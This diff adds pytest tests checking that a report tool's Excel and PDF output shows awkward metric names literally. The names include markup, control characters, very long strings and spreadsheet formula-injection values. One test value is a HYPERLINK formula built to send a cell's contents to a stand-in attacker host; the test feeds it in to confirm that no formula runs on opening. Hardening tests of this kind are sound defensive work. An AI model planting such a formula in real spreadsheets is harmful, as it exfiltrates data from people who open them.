@@ -193,3 +193,75 @@ def test_names_with_markup_characters_print_as_written(metrics):
     text = pdf_text(pdf)
     for written in ("R&D <b>studies", "A&E <4 hours", "Safe & <i>sound", "Board <report> & more"):
         assert written in text, written
+
+
+def run_report(source: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
+    command = [str(Path(sys.executable).with_name("qijourney")), "report", str(source)]
+    command += ["--value", "value", "--date", "month", "--series", "metric"]
+    command += ["--domain-column", "domain", "--out", str(out), *extra]
+    return subprocess.run(command, capture_output=True, text=True, timeout=300)
+
+
+def test_cli_excel_keeps_text_as_text(metrics, tmp_path):
+    from tests.workbook import filled_cells, run_on_opening
+
+    names = {
+        "Metric 00": '=HYPERLINK("https://attacker.example/?d="&D5,"Click to verify")',
+        "Metric 01": "@SUM(1+1)",
+        "Metric 02": "#N/A in name",
+        "Metric 03": "Falls\x0bper day",
+    }
+    awkward = metrics.replace({"metric": names, "domain": {"Safe": "-Safe"}})
+    source = tmp_path / "ipr.csv"
+    awkward.to_csv(source, index=False)
+    out = tmp_path / "board.xlsx"
+    result = run_report(source, out, "--title", "=1+1 board")
+    assert result.returncode == 0, result.stderr
+    cells = filled_cells(out)
+    assert run_on_opening(cells) == []
+    text = {c.value for c in cells if c.data_type == "s"}
+    shown = {n.replace("\x0b", "\ufffd") for n in names.values()}
+    assert shown | {"-Safe", "=1+1 board"} <= text
+
+
+LONG = {n: " ".join(f"w{i:05d}" for i in range(n // 7)) for n in (3_000, 30_000)}
+
+
+def printed_words(text: str) -> set[str]:
+    return set(re.findall(r"w\d{5}", text))
+
+
+@pytest.mark.parametrize("length", sorted(LONG))
+def test_pdf_prints_very_long_names_in_full(metrics, length):
+    long = LONG[length]
+    awkward = metrics.replace({"metric": {"Metric 00": long}, "domain": {"Caring": long}})
+    pdf = to_pdf(build_report(awkward, title=f"Board {long}", with_charts=True, **OPTIONS))
+    text = pdf_text(pdf)
+    assert printed_words(text) == printed_words(long)
+    assert "Metric 23" in text  # the rest of the report is still there
+
+
+def test_cli_pdf_with_a_very_long_metric_name(metrics, tmp_path):
+    awkward = metrics.replace({"metric": {"Metric 00": LONG[30_000]}})
+    source = tmp_path / "ipr.csv"
+    awkward.to_csv(source, index=False)
+    out = tmp_path / "board.pdf"
+    result = run_report(source, out)
+    assert result.returncode == 0, result.stderr
+    assert printed_words(pdf_text(out.read_bytes())) == printed_words(LONG[30_000])
+
+
+def test_pdf_prints_control_characters_and_stray_markup():
+    frame = pd.DataFrame(
+        {
+            "metric": ["Falls\x0bper day"] * 15 + ["<b>unclosed & <font"] * 15,
+            "month": list(pd.date_range("2024-01-01", periods=15, freq="MS")) * 2,
+            "value": np.arange(30.0) % 4,
+            "domain": ["Safe\x00ty"] * 30,
+        }
+    )
+    options = dict(series=["metric"], date="month", value="value", domain_column="domain")
+    text = pdf_text(to_pdf(build_report(frame, title="Board\x1b report", **options)))
+    assert "<b>unclosed & <font" in text
+    for before, after in (("Falls", "per day"), ("Safe", "ty"), ("Board", " report")):
+        assert re.search(f"{before}.{after}", text), before
